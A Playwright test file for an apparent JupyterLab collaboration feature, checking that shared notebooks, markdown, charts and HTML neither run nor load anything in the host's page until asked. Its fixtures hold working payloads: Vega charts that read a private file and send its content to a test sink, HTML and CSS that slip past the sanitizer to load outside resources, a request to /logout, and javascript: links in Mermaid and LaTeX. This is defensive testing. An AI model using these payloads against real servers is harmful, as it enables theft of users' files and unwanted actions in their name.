/** What a page does with content that others may have written: it draws what is inert, and loads nothing. */
import { Page } from '@playwright/test';
import { command, expect, open, test } from './support/fixtures';
import { Sink } from './support/sink';

const SECRET = '/api/contents/secret.txt';

const kernelspec = { name: 'python3', display_name: 'Python 3' };
const notebook = (cells: object[], metadata: object = {}) =>
  JSON.stringify({
    cells,
    metadata: { kernelspec, ...metadata },
    nbformat: 4,
    nbformat_minor: 5
  });
const markdown = (source: string, id: string) => ({
  ...{ cell_type: 'markdown', id, source, metadata: {} }
});
const code = (outputs: object[], id: string, source = '') => ({
  ...{ cell_type: 'code', id, source, metadata: {}, execution_count: null },
  outputs: outputs.map(data => ({
    ...{ output_type: 'display_data', data, metadata: { isolated: true } }
  }))
});

/** Charts that fetch a file of the host's which nobody shares, and take it elsewhere. */
const vega = (sink: string) => ({
  $schema: 'https://vega.github.io/schema/vega/v5.json',
  ...{ width: 50, height: 50 },
  data: [{ name: 't', url: `${SECRET}?content=1`, format: { type: 'json' } }],
  marks: [
    {
      type: 'image',
      from: { data: 't' },
      encode: {
        enter: {
          url: { signal: `'${sink}/vega?' + datum.content` },
          ...{ width: { value: 20 }, height: { value: 20 } }
        }
      }
    }
  ]
});
const vegaLite = (sink: string) => ({
  $schema: 'https://vega.github.io/schema/vega-lite/v5.json',
  data: { url: `${SECRET}?content=1`, format: { type: 'json' } },
  transform: [{ calculate: `'${sink}/vl?' + datum.content`, as: 'u' }],
  mark: { type: 'image', width: 20, height: 20 },
  encoding: { url: { field: 'u' } }
});

/** HTML that JupyterLab's sanitizer lets pass. */
const loading = (sink: string, where: string) => `
<img class="loads" alt="a plot from elsewhere" src="${sink}/${where}-img">
<img srcset="${sink}/${where}-srcset 1x"><img src="/logout">
<video src="${sink}/${where}-video" poster="${sink}/${where}-poster" autoplay></video>
<audio src="${sink}/${where}-audio" autoplay></audio>
<table background="${sink}/${where}-table"><tr><td>1</td></tr></table>
<div style="background: url(${sink}/${where}-css)">1</div>
<div style="background-image: u\\72l(${sink}/${where}-escaped)">1</div>
<ul><li style="list-style-image: url('${sink}/${where}-list')">1</li></ul>
<link rel="stylesheet" href="${sink}/${where}-link">
<style>@import "${sink}/${where}-style";</style>
<button data-commandlinker-command="apputils:change-theme"
  data-commandlinker-args='{"theme":"JupyterLab Dark"}'>Show the figures</button>`;

const mermaid = (sink: string) => `
\`\`\`mermaid
%%{init: {"securityLevel": "loose", "themeCSS": ".node rect { fill: url(${sink}/mermaid-css) }"}}%%
flowchart LR
  A["<img src='${sink}/mermaid-img'/>"] --> B
  click A href "javascript:window.hacked=1"
\`\`\``;

const latex = (sink: string) =>
  String.raw`$\style{background:url(${sink}/latex)}{x}\href{javascript:window.hacked=1}{y}$`;

const files = (sink: string) => ({
  'secret.txt': 'not shared',
  'd/n.ipynb': notebook([
    markdown(`# Heading <img src="${sink}/heading">`, 'm1'),
    markdown(loading(sink, 'markdown'), 'm2'),
    markdown(mermaid(sink), 'm3'),
    markdown(latex(sink), 'm4'),
    code(
      [
        {
          'application/vnd.vega.v5+json': vega(sink),
          'text/plain': 'the first chart'
        },
        { 'application/vnd.vegalite.v5+json': vegaLite(sink) },
        { 'text/html': `<h2>Output</h2>${loading(sink, 'output')}` },
        { 'image/svg+xml': `<svg><image href="${sink}/svg"/></svg>` },
        { 'text/markdown': `![a](${sink}/output-markdown)` },
        { 'text/latex': latex(sink) }
      ],
      'c1'
    )
  ]),
  'd/n.md': `${loading(sink, 'file')}\n\n${mermaid(sink)}`,
  'd/c.vl.json': JSON.stringify(vegaLite(sink)),
  'd/c.vg.json': JSON.stringify(vega(sink)),
  'd/p.html': `<meta http-equiv="refresh" content="0;url=${sink}/refresh">
    <p id="here">here</p>${loading(sink, 'html')}<iframe src="${sink}/frame"></iframe>`
});

/** Whether this page asked the server for what nobody may ask for in its name. */
function misused(page: Page): string[] {
  const found: string[] = [];
  page.on('request', request => {
    const { pathname } = new URL(request.url());
    if (pathname === SECRET || pathname === '/logout') {
      found.push(request.url());
    }
  });
  return found;
}

let sink: Sink;
test.beforeAll(async () => {
  sink = await Sink.start();
});
test.afterAll(() => sink.stop());
test('[TRUST-34] [TRUST-35] [TRUST-36] [TRUST-37] content of others runs nothing and loads nothing in the host’s page until asked', async ({
  lab
}) => {
  for (const [name, text] of Object.entries(files(sink.origin))) {
    lab.server.write(name, text);
  }
  await lab.share({ paths: ['d'], role: 'editor' });
  const host = await lab.hostPage();
  const asked = misused(host);
  await open(host, 'd/n.ipynb');
  await expect(host.getByText('the first chart')).toBeVisible();
  const notices = host.locator('.jp-cohost-unvouched-notice');
  await expect(notices).toHaveCount(2);
  await expect(notices.first()).toContainText('The chart is not shown');
  await expect(host.locator('.jp-RenderedMermaid img').first()).toBeVisible();
  await expect(host.locator('mjx-container')).toHaveCount(2);
  await command(host, 'toc:show-panel');
  await expect(host.locator('.jp-tocItem').first()).toContainText('Heading');
  await expect(host.locator('.jp-OutputArea-output iframe')).toHaveCount(0);

  const theme = () => host.locator('body').getAttribute('data-jp-theme-light');
  const light = await theme();
  const buttons = host.getByRole('button', { name: 'Show the figures' });
  await buttons.first().click();
  await buttons.last().click();
  const factory = 'Markdown Preview';
  await command(host, 'docmanager:open', { path: 'd/n.md', factory });
  await host.locator('.jp-MarkdownViewer').getByRole('button').click();

  for (const chart of ['d/c.vl.json', 'd/c.vg.json']) {
    await open(host, chart);
    const ask = host.locator('.jp-cohost-viewer-notice:visible');
    await expect(ask).toContainText('not drawn by itself');
  }
  await open(host, 'd/p.html');
  const frame = host.frameLocator('.jp-HTMLViewer iframe');
  await expect(frame.locator('#here')).toBeVisible();

  // What is asked for comes; so what would have come before is there by now.
  await open(host, 'd/n.ipynb');
  expect(sink.asked).toEqual([]);
  expect(asked).toEqual([]);
  expect(await theme()).toBe(light);
  await host
    .locator('.jp-MarkdownCell .jp-cohost-not-loaded')
    .filter({ hasText: 'a plot from elsewhere' })
    .click();
  await expect
    .poll(() => sink.asked)
    .toEqual(expect.arrayContaining(['/markdown-img', '/output-img']));
  expect(
    sink.asked.filter(path => /mermaid|file|html|vl|vega/.test(path))
  ).toEqual([]);
  expect(await theme()).toBe(light);
  expect(asked).toEqual([]);

  await open(host, 'd/c.vl.json');
  await host.getByRole('button', { name: 'Show', exact: true }).click();
  await expect.poll(() => asked.length).toBeGreaterThan(0);
});
